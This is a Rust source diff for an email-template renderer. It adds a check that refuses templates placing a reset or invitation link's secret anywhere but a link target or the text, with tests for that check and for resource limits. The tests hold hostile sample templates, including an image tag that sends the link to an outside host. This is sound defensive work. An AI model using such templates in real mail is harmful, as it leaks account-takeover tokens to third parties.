@@ -3,6 +3,7 @@
 //! column, unknown variables, and a subject that renders to nothing or to more than one line.
 
 mod builtin;
+pub mod placement;
 
 use std::collections::BTreeSet;
 
@@ -301,7 +302,9 @@ impl CompiledTemplates {
         }
         let compiled = CompiledTemplates { env };
         let sample = Link {
-            url: "https://tenant.example/u/reset-password?ticket=SAMPLE#type=invite".into(),
+            url:
+                "https://tenant.example/u/reset-password?ticket=SAMPLEvCXrmOFD88EqTjKp#type=invite"
+                    .into(),
             expires_at: OffsetDateTime::now_utc() + time::Duration::days(7),
             ttl_seconds: 7 * 86_400,
         };
@@ -386,6 +389,8 @@ impl CompiledTemplates {
             .map_err(|e| AppError::internal(format!("{part} template rendered invalid UTF-8: {e}")))
     }
 
+    /// One person's message. Checked on every render, for every person (a template may place the
+    /// link differently for different data): the link appears only where it belongs.
     pub fn render(
         &self,
         person: &Person,
@@ -393,13 +398,40 @@ impl CompiledTemplates {
         settings: &MessageSettings,
     ) -> Result<Content, AppError> {
         let subject = self.render_part("subject", person, link, settings)?;
+        let html = self.render_part("html", person, link, settings)?;
+        let secret = link_secret(&link.url);
+        if subject.contains(&secret) {
+            return Err(AppError::invalid_input(
+                "subject template: it puts the link in the subject; the link belongs in the message (a link's href, or the text)",
+            ));
+        }
+        if let Some(place) = placement::misplaced_link(&html, &escape_attribute(&secret)) {
+            return Err(AppError::invalid_input(format!(
+                "html template: it puts the link in {}, where a mail client fetches or hides it; a link may appear only as a link's target (<a href=\"{{{{ link }}}}\">) or in the text",
+                place.describe()
+            )));
+        }
         Ok(Content {
             // Person data may hold line breaks; a subject is one line.
             subject: subject.split_whitespace().collect::<Vec<_>>().join(" "),
-            html: self.render_part("html", person, link, settings)?,
+            html,
             text: self.render_part("text", person, link, settings)?,
         })
     }
+}
+
+/// The part of a link that makes it a bearer secret: its `ticket` (password-change and
+/// verification tickets) or `invitation` (organization invitations) value, else the whole link.
+/// Finding it finds the link and what is derived from it.
+pub fn link_secret(url: &str) -> String {
+    url::Url::parse(url)
+        .ok()
+        .and_then(|u| {
+            u.query_pairs()
+                .find(|(k, v)| (k == "ticket" || k == "invitation") && v.len() >= 8)
+                .map(|(_, v)| v.into_owned())
+        })
+        .unwrap_or_else(|| url.to_owned())
 }
 
 fn escape_attribute(text: &str) -> String {
@@ -437,15 +469,56 @@ mod tests {
     }
 
     #[test]
+    fn a_template_that_puts_the_link_where_a_client_fetches_it_is_refused() {
+        for html in [
+            r#"<p>Hi</p><img src="https://x.example/?l={{ link }}"><a href="{{ link }}">go</a>"#,
+            r#"<a href="{{ link }}" title="{{ link }}">go</a>"#,
+            r#"<!-- {{ link }} --><a href="{{ link }}">go</a>"#,
+            r#"<a href="{{ link }}">go</a>{% if person.given_name == "Jane" %}<img src="//x/{{ link[8:] }}">{% endif %}"#,
+        ] {
+            let set = TemplateSet {
+                html: html.into(),
+                ..TemplateSet::builtin()
+            };
+            let error = CompiledTemplates::compile(&set).unwrap_err();
+            assert!(
+                error.message.contains("html template: it puts the link in"),
+                "{html}: {}",
+                error.message
+            );
+        }
+        let subject = TemplateSet {
+            subject: "Your link {{ link }}".into(),
+            ..TemplateSet::builtin()
+        };
+        assert!(CompiledTemplates::compile(&subject).is_err());
+        // Where it belongs: allowed, and checked again for each person's own data.
+        let fine = TemplateSet {
+            html: r#"<a href="{{ link }}">Set your password</a><p>{{ link }}</p>{% if person.given_name == "Zed" %}<img src="{{ link }}">{% endif %}"#.into(),
+            ..TemplateSet::builtin()
+        };
+        let compiled = CompiledTemplates::compile(&fine).unwrap();
+        assert!(
+            compiled
+                .render(&person("Ann"), &link(), &MessageSettings::default())
+                .is_ok()
+        );
+        let error = compiled
+            .render(&person("Zed"), &link(), &MessageSettings::default())
+            .unwrap_err();
+        assert!(error.message.contains("<img src="), "{}", error.message);
+    }
+
+    #[test]
     fn a_template_that_works_too_hard_or_writes_too_much_is_refused() {
         let nested = TemplateSet {
-            text: "{% for a in range(100000) %}{% for b in range(100000) %}x{% endfor %}{% endfor %}{{ link }}\n".into(),
+            text: "{% for a in 'x' * 100000 %}{% for b in 'x' * 100000 %}x{% endfor %}{% endfor %}{{ link }}\n".into(),
             ..TemplateSet::builtin()
         };
         let error = CompiledTemplates::compile(&nested).unwrap_err();
         assert!(error.message.contains("too much work"), "{}", error.message);
         let huge = TemplateSet {
-            text: "{% for a in range(50) %}{{ 'x' * 50000 }}{% endfor %}{{ link }}\n".into(),
+            text: "{% for a in 'x' * 50 %}{{ 'x' * 50000 }}{% endfor %}{{ link }}\n".into(),
             ..TemplateSet::builtin()
         };
         let error = CompiledTemplates::compile(&huge).unwrap_err();
